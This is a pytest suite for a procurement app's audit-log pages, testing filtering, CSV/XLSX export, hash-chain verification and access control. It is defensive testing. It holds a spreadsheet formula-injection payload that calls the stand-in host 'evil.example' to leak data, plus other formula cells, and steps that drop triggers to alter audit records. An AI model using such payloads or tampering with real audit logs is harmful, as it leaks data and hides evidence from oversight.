"""The audit administrator's pages: browse and filter the log, export it, verify the chain."""

import csv
import io
import json
import re
from datetime import UTC, datetime

import pytest
import sqlalchemy as sa
from flask_babel import gettext
from markupsafe import escape
from openpyxl import load_workbook
from sqlalchemy import select

import procurement.audit.services as audit_services
from procurement.audit import export
from procurement.audit.models import AuditRecord
from procurement.audit.services import Actor, append_audit
from procurement.audit.verification import ProblemRun, describe
from procurement.auth.roles import Role
from procurement.extensions import db
from procurement.rules.spreadsheet import unneutralize
from tests.factories import login_as, make_user

FORMULA_USER = '=HYPERLINK("http://evil.example/?leak","click")'


def _msg(msgid, **kwargs) -> str:
    """A message as it appears in the HTML."""
    return str(escape(gettext(msgid, **kwargs)))


def _at(monkeypatch, moment: datetime):
    monkeypatch.setattr(audit_services, "utcnow", lambda: moment)


@pytest.fixture
def auditor(client):
    user = make_user(Role.AUDITADMIN, username="auditor1")
    login_as(client, user)
    return user


@pytest.fixture
def records():
    """A small log: logins that worked and failed, a catalog change, from two users and addresses."""
    alice = make_user(Role.OFFICER, username="alice", display_name="李明")
    bob = make_user(Role.FINANCE, username="bob")
    append_audit(Actor(alice, "10.0.0.1"), "auth.login", alice, detail={"session": "a1"})
    append_audit(Actor(None, "10.0.0.66"), "auth.login", outcome="failure", username="mallory",
                 detail={"reason": "unknown_user"})
    append_audit(Actor(bob, "10.0.1.2"), "auth.login", bob, outcome="failure", detail={"reason": "password"})
    append_audit(Actor(alice, "10.0.0.1"), "catalog.item_update", object_type="catalog_item", object_id=42,
                 detail={"reference_price": ["45.00", "50.00"]})
    append_audit(Actor(bob, "10.0.1.2"), "auth.login", bob, detail={"session": "b1"})
    db.session.commit()
    return {"alice": alice, "bob": bob}


def _seqs(html: str) -> list[int]:
    """Sequence numbers of the table rows, in page order."""
    return [int(s) for s in re.findall(r'href="/audit/\d+">(\d+)</a>', html)]


def _committed(query):
    """Read through a separate connection: only what was committed."""
    with db.engine.connect() as conn:
        return conn.execute(query).all()


# --- browsing ---------------------------------------------------------------------------------------

def test_the_log_lists_newest_first_with_readable_actions(client, auditor, records):
    response = client.get("/audit/")
    assert response.status_code == 200
    html = response.get_data(as_text=True)
    assert _seqs(html) == [5, 4, 3, 2, 1]
    assert _msg("Log in") in html and "auth.login" in html
    assert _msg("Service item changed") in html and "catalog.item_update" in html
    assert "catalog_item #42" in html
    assert 'class="badge text-bg-danger">' + _msg("Failure") in html
    assert records["alice"].display_name in html
    assert "reason: unknown_user" in html


def test_the_log_is_paginated(app, client, auditor):
    app.config["PAGE_SIZE"] = 3
    for n in range(7):
        append_audit(Actor(None, "cli"), "demo.seed", detail={"n": n})
    db.session.commit()
    assert _seqs(client.get("/audit/").get_data(as_text=True)) == [7, 6, 5]
    assert _seqs(client.get("/audit/?page=3").get_data(as_text=True)) == [1]


@pytest.mark.parametrize("query, expected", [
    ("outcome=failure", [3, 2]),
    ("outcome=success", [5, 4, 1]),
    ("user=bob", [5, 3]),
    ("user=mallory", [2]),
    ("user=ali", []),  # a user name matches exactly, not as a part
    ("user=李明", [4, 1]),  # so does the full name of an account
    ("action=auth.login", [5, 3, 2, 1]),
    ("action=catalog.", [4]),
    ("action=auth.login&outcome=failure&user=bob", [3]),
    ("object_type=catalog_item&object_id=42", [4]),
    ("object_id=43", []),
    ("ip=10.0.0.1", [4, 1]),
    ("ip=10.0.*", [5, 4, 3, 2, 1]),
    ("ip=10.0.0.*", [4, 2, 1]),
    ("ip=10.0.0.6", []),
])
def test_filters_narrow_the_log(client, auditor, records, query, expected):
    response = client.get(f"/audit/?{query}")
    assert response.status_code == 200
    assert _seqs(response.get_data(as_text=True)) == expected


def test_the_action_choices_come_from_the_log(client, auditor, records):
    html = client.get("/audit/").get_data(as_text=True)
    options = re.findall(r'<option[^>]*value="([^"]*)"', html)
    assert {"", "auth.", "auth.login", "catalog.", "catalog.item_update"} <= set(options)
    assert "auth.logout" not in options  # not in this log


def test_a_beijing_date_covers_the_utc_hours_of_that_day(client, auditor, monkeypatch):
    for moment, object_id in [
        (datetime(2026, 11, 28, 15, 59, tzinfo=UTC), "on-the-28th"),  # 23:59 in Beijing, 28 Nov
        (datetime(2026, 11, 28, 16, 0, tzinfo=UTC), "just-after-midnight"),  # 00:00 in Beijing, 29 Nov
        (datetime(2026, 11, 28, 23, 30, tzinfo=UTC), "morning-of-the-29th"),  # 07:30 in Beijing, 29 Nov
        (datetime(2026, 11, 29, 16, 0, tzinfo=UTC), "on-the-30th"),  # 00:00 in Beijing, 30 Nov
    ]:
        _at(monkeypatch, moment)
        append_audit(Actor(None, "cli"), "demo.seed", object_type="x", object_id=object_id)
    db.session.commit()

    html = client.get("/audit/?date_from=2026-11-29&date_to=2026-11-29").get_data(as_text=True)
    assert "morning-of-the-29th" in html and "just-after-midnight" in html
    assert "on-the-28th" not in html and "on-the-30th" not in html

    html = client.get("/audit/?date_to=2026-11-28").get_data(as_text=True)
    assert "on-the-28th" in html and "morning-of-the-29th" not in html

    html = client.get("/audit/?date_from=2026-11-30").get_data(as_text=True)
    assert _seqs(html) == [4]


@pytest.mark.parametrize("query, field, msgid", [
    ("date_from=2026-13-45", "date_from", "Enter a date like 2026-11-29."),
    ("date_to=yesterday", "date_to", "Enter a date like 2026-11-29."),
    ("date_from=29.11.2026", "date_from", "Enter a date like 2026-11-29."),
    ("date_from=9999-12-31", "date_from", "Enter a date between 2000 and 2100."),
    ("date_to=0001-01-01", "date_to", "Enter a date between 2000 and 2100."),
    ("date_from=2026-11-30&date_to=2026-11-29", "date_to", "The end date is before the start date."),
])
def test_bad_filter_input_gives_a_message_next_to_the_field(client, auditor, records, query, field, msgid):
    response = client.get(f"/audit/?{query}")
    assert response.status_code == 400
    html = response.get_data(as_text=True)
    assert _msg(msgid) in html
    assert re.search(rf'id="{field}"[^>]*class="[^"]*is-invalid|class="[^"]*is-invalid[^"]*"[^>]*id="{field}"', html)
    assert _seqs(html) == []  # no unfiltered list that could be mistaken for the answer


@pytest.mark.parametrize("query", ["action=no.such_action", "outcome=maybe", "user=" + "x" * 65, "ip=" + "1" * 200])
def test_impossible_filter_values_are_refused_without_an_error_page(client, auditor, records, query):
    response = client.get(f"/audit/?{query}")
    assert response.status_code == 400
    assert "is-invalid" in response.get_data(as_text=True)


@pytest.mark.parametrize("page", ["99999999999999999999999999", "-1", "0", "abc", "1e9"])
def test_an_impossible_page_number_shows_the_first_page_with_a_message(client, auditor, records, page):
    response = client.get(f"/audit/?page={page}")
    assert response.status_code == 200
    html = response.get_data(as_text=True)
    assert _msg("There is no page %(page)s; the first page is shown.", page=page) in html
    assert _seqs(html) == [5, 4, 3, 2, 1]


def test_a_page_beyond_the_last_shows_the_last_page_with_a_message(client, auditor, records):
    response = client.get("/audit/?outcome=failure&page=7")
    assert response.status_code == 200
    html = response.get_data(as_text=True)
    assert _msg("There is no page %(page)s; the last page is shown.", page=7) in html
    assert _seqs(html) == [3, 2]


def test_a_record_shows_every_field_and_its_chain_links(client, auditor, records):
    record = db.session.execute(select(AuditRecord).where(AuditRecord.seq == 4)).scalar_one()
    previous = db.session.execute(select(AuditRecord).where(AuditRecord.seq == 3)).scalar_one()
    response = client.get(f"/audit/{record.id}")
    assert response.status_code == 200
    html = response.get_data(as_text=True)
    assert record.prev_hash == previous.hash
    for value in (record.hash, record.prev_hash, "catalog.item_update", "10.0.0.1", "alice", "catalog_item #42"):
        assert str(escape(value)) in html
    assert str(escape(json.dumps(record.detail, ensure_ascii=False, indent=2, sort_keys=True))) in html
    assert _msg("Match the hash") in html and _msg("Intact") in html


def test_a_record_altered_in_the_database_is_flagged_on_its_page(client, auditor, records):
    _drop_append_only_guards()
    db.session.execute(sa.text("UPDATE audit_record SET outcome = 'success' WHERE seq = 3"))
    db.session.commit()
    record_id = _committed(select(AuditRecord.id).where(AuditRecord.seq == 3))[0][0]
    html = client.get(f"/audit/{record_id}").get_data(as_text=True)
    assert _msg("Do not match the hash: this record has been altered") in html


@pytest.mark.parametrize("url", ["/audit/999", "/audit/99999999999999999999999", "/audit/verify?record=99999999999999"])
def test_a_record_that_does_not_exist_is_not_found(client, auditor, records, url):
    assert client.get(url).status_code == 404


# --- export -----------------------------------------------------------------------------------------

@pytest.fixture
def hostile_record():
    """A failed login whose typed user name, address and object are spreadsheet formulas."""
    append_audit(Actor(None, "+1-1"), "auth.login", outcome="failure", username=FORMULA_USER,
                 object_type="@SUM(A1:A9)", object_id="-2+3", detail={"reason": "=1+1"})
    db.session.commit()


def _csv_rows(response) -> list[list[str]]:
    text = response.get_data().decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def _xlsx_rows(response) -> list[list]:
    workbook = load_workbook(io.BytesIO(response.get_data()), read_only=True)
    rows = [list(r) for r in workbook.worksheets[0].iter_rows(values_only=True)]
    workbook.close()
    return rows


def _export_rows(client, fmt, query=""):
    response = client.get(f"/audit/export.{fmt}?{query}")
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    assert "attachment" in response.headers["Content-Disposition"]
    return _csv_rows(response) if fmt == "csv" else _xlsx_rows(response)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_holds_every_column_of_the_filtered_records(client, auditor, records, monkeypatch, fmt):
    _at(monkeypatch, datetime(2026, 11, 28, 23, 30, tzinfo=UTC))
    append_audit(Actor(records["bob"], "10.0.1.2"), "auth.login", records["bob"], outcome="failure",
                 detail={"reason": "locked", "城市": "昆明"})
    db.session.commit()
    rows = _export_rows(client, fmt, "outcome=failure")
    assert rows[0] == export.headers()
    assert [gettext("Seq"), gettext("Hash (SHA-256)")] == [rows[0][0], rows[0][-1]]
    body = rows[1:]
    assert [int(r[0]) for r in body] == [2, 3, 6]  # oldest first, failures only
    last = body[-1]
    record = db.session.execute(select(AuditRecord).where(AuditRecord.seq == 6)).scalar_one()
    assert last[1:] == ["2026-11-28T23:30:00Z", "2026-11-29 07:30:00", "bob", "10.0.1.2", "auth.login", "user",
                        str(records["bob"].id), "failure", json.dumps(record.detail, ensure_ascii=False, sort_keys=True),
                        record.hash]
    assert json.loads(last[9]) == {"reason": "locked", "城市": "昆明"}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_neutralizes_cells_a_spreadsheet_would_run_as_formulas(client, auditor, hostile_record, fmt):
    rows = _export_rows(client, fmt)
    row = rows[1]
    assert row[3] == "'" + FORMULA_USER
    assert row[4] == "'+1-1"
    assert row[6] == "'@SUM(A1:A9)"
    assert row[7] == "'-2+3"
    assert unneutralize(row[3]) == FORMULA_USER
    for cell in row[1:]:
        assert not str(cell).startswith(("=", "+", "-", "@")), cell


def test_xlsx_export_survives_control_characters_in_a_typed_user_name(client, auditor):
    append_audit(Actor(None, "10.0.0.5"), "auth.login", outcome="failure", username="bad\x01name\x1b",
                 detail={"reason": "unknown_user"})
    db.session.commit()
    rows = _export_rows(client, "xlsx")
    assert rows[1][3] == "bad\\x01name\\x1b"
    assert _export_rows(client, "csv")[1][3] == "bad\x01name\x1b"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_export_is_itself_audited_and_committed(client, auditor, records, fmt):
    rows = _export_rows(client, fmt, "user=bob&date_from=2026-01-01")
    assert len(rows) == 1 + 2
    audited = _committed(select(AuditRecord.seq, AuditRecord.action, AuditRecord.username, AuditRecord.outcome,
                                AuditRecord.detail).order_by(AuditRecord.seq.desc()).limit(1))[0]
    assert audited.action == "audit.export" and audited.username == "auditor1" and audited.outcome == "success"
    assert audited.seq == 6
    assert audited.detail == {"format": fmt, "filters": {"user": "bob", "date_from": "2026-01-01"}, "rows": 2,
                              "up_to_seq": 5}
    assert audit_services.verify_audit_chain() == []


def test_an_export_does_not_contain_its_own_record(client, auditor, records):
    first = _export_rows(client, "csv")
    second = _export_rows(client, "csv")
    assert [r[0] for r in first[1:]] == ["1", "2", "3", "4", "5"]
    assert [r[0] for r in second[1:]] == ["1", "2", "3", "4", "5", "6"]
    assert second[-1][5] == "audit.export"


@pytest.mark.parametrize("app_config", [{"AUDIT_EXPORT_MAX_ROWS": 3}])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_export_over_the_limit_is_refused_with_advice_and_recorded(client, auditor, records, app_config, fmt):
    response = client.get(f"/audit/export.{fmt}", follow_redirects=True)
    assert response.status_code == 200
    assert response.request.path == "/audit/"
    html = response.get_data(as_text=True)
    assert _msg("The export would hold %(rows)s records; at most %(limit)s can be exported at once. "
                "Narrow the date range or the other filters and export in parts.", rows=5, limit=3) in html
    audited = _committed(select(AuditRecord.action, AuditRecord.outcome, AuditRecord.detail)
                         .order_by(AuditRecord.seq.desc()).limit(1))[0]
    assert (audited.action, audited.outcome, audited.detail["reason"], audited.detail["rows"]) == \
        ("audit.export", "failure", "too_many_rows", 5)
    # Narrowed, the same export goes through.
    assert len(_export_rows(client, fmt, "action=auth.login&outcome=failure")) == 1 + 2


def test_an_export_with_a_bad_filter_goes_back_to_the_filter(client, auditor, records):
    response = client.get("/audit/export.csv?date_from=2026-02-30", follow_redirects=True)
    assert response.status_code == 400
    html = response.get_data(as_text=True)
    assert _msg("Correct the filter before exporting.") in html
    assert _msg("Enter a date like 2026-11-29.") in html
    assert _committed(select(AuditRecord.seq).where(AuditRecord.action == "audit.export")) == []


def test_a_large_csv_export_streams_in_chunks(client, auditor, monkeypatch):
    monkeypatch.setattr(export, "CSV_FLUSH_ROWS", 10)
    for n in range(45):
        append_audit(Actor(None, "cli"), "demo.seed", detail={"n": n})
    db.session.commit()
    response = client.get("/audit/export.csv")
    assert response.is_streamed
    chunks = list(response.response)
    assert len(chunks) >= 5
    text = b"".join(c if isinstance(c, bytes) else c.encode() for c in chunks).decode("utf-8")
    assert text.startswith("\ufeff")
    assert len(list(csv.reader(io.StringIO(text[1:])))) == 1 + 45


# --- verification -----------------------------------------------------------------------------------

def _drop_append_only_guards():
    if db.engine.dialect.name == "postgresql":
        db.session.execute(sa.text("ALTER TABLE audit_record DISABLE TRIGGER USER"))
    else:
        db.session.execute(sa.text("DROP TRIGGER audit_record_no_update"))
        db.session.execute(sa.text("DROP TRIGGER audit_record_no_delete"))


def test_verifying_an_intact_log_says_so_and_is_recorded(client, auditor, records):
    response = client.post("/audit/verify")
    assert response.status_code == 302
    html = client.get(response.headers["Location"]).get_data(as_text=True)
    assert _msg("The audit log is intact: all %(n)s records match their hashes and are linked in order.", n=5) in html
    audited = _committed(select(AuditRecord.action, AuditRecord.outcome, AuditRecord.username)
                         .order_by(AuditRecord.seq.desc()).limit(1))[0]
    assert tuple(audited) == ("audit.verify", "success", "auditor1")


def test_verifying_a_tampered_log_names_each_problem_in_plain_language(client, auditor, records):
    _drop_append_only_guards()
    db.session.execute(sa.text("UPDATE audit_record SET outcome = 'success' WHERE seq = 3"))
    db.session.execute(sa.text("DELETE FROM audit_record WHERE seq = 5"))
    db.session.commit()
    html = client.post("/audit/verify", follow_redirects=True).get_data(as_text=True)
    assert _msg("The audit log has been tampered with: %(n)s problems found in %(records)s records.",
                n=2, records=5) in html
    assert str(escape(describe(ProblemRun("altered", 3, 3)))) in html
    assert str(escape(describe(ProblemRun("head_mismatch", 5, 5)))) in html
    assert "head_mismatch" in html and "altered" in html
    audited = _committed(select(AuditRecord.action, AuditRecord.outcome, AuditRecord.detail)
                         .where(AuditRecord.action == "audit.verify"))[0]
    assert audited.outcome == "failure"
    assert audited.detail["runs"] == [["altered", 3, 3], ["head_mismatch", 5, 5]]


def test_deleted_ranges_are_reported_as_one_line(client, auditor, records):
    _drop_append_only_guards()
    db.session.execute(sa.text("DELETE FROM audit_record WHERE seq IN (2, 3, 4)"))
    db.session.commit()
    html = client.post("/audit/verify", follow_redirects=True).get_data(as_text=True)
    assert _msg("Records %(first)s to %(last)s are missing: they have been deleted.", first=2, last=4) in html
    assert _msg("Record %(seq)s no longer links to the record before it: a record before it was deleted, "
                "inserted or replaced.", seq=5) in html


def test_the_verify_page_shows_earlier_verifications(client, auditor, records):
    client.post("/audit/verify")
    client.post("/audit/verify")
    html = client.get("/audit/verify").get_data(as_text=True)
    assert html.count('href="/audit/verify?record=') == 2


def test_the_verify_page_before_any_verification(client, auditor):
    html = client.get("/audit/verify").get_data(as_text=True)
    assert _msg("The chain has not been verified from here yet.") in html


def test_only_verification_records_are_shown_as_verifications(client, auditor, records):
    record_id = _committed(select(AuditRecord.id).where(AuditRecord.seq == 1))[0][0]
    assert client.get(f"/audit/verify?record={record_id}").status_code == 404


# --- access -----------------------------------------------------------------------------------------

PAGES = [("GET", "/audit/"), ("GET", "/audit/1"), ("GET", "/audit/export.csv"), ("GET", "/audit/export.xlsx"),
         ("GET", "/audit/verify"), ("POST", "/audit/verify")]


@pytest.mark.parametrize("role", [r for r in Role if r != Role.AUDITADMIN] + [None])
def test_other_roles_may_not_read_export_or_verify_the_log(client, records, role):
    login_as(client, make_user(role))
    for method, url in PAGES:
        assert client.open(url, method=method).status_code == 403, (role, method, url)
    assert _committed(select(AuditRecord.seq).where(AuditRecord.action.like("audit.%"))) == []


def test_anonymous_visitors_are_sent_to_log_in(client, records):
    for method, url in PAGES:
        response = client.open(url, method=method)
        assert response.status_code == 302 and "/auth/login" in response.headers["Location"], url


def test_the_audit_administrator_may_open_every_audit_page(client, auditor, records):
    for method, url in PAGES:
        assert client.open(url, method=method).status_code in (200, 302), (method, url)


def test_no_route_can_change_or_delete_audit_records(app):
    rules = [r for r in app.url_map.iter_rules() if r.endpoint.startswith("audit.")]
    assert rules
    for rule in rules:
        assert not rule.methods & {"PUT", "PATCH", "DELETE"}, rule
    posting = {r.endpoint for r in rules if "POST" in r.methods}
    assert posting == {"audit.verify"}


INLINE = re.compile(r"""<script(?![^>]*\bsrc=)[^>]*>|\son[a-z]+\s*=|\sstyle\s*=""", re.I)


def test_audit_pages_have_no_inline_script_or_style(client, auditor, records):
    client.post("/audit/verify")
    record_id = _committed(select(AuditRecord.id).where(AuditRecord.seq == 4))[0][0]
    for url in ("/audit/", "/audit/?date_from=bad", f"/audit/{record_id}", "/audit/verify"):
        html = client.get(url).get_data(as_text=True)
        assert not INLINE.search(html), (url, INLINE.search(html).group(0))
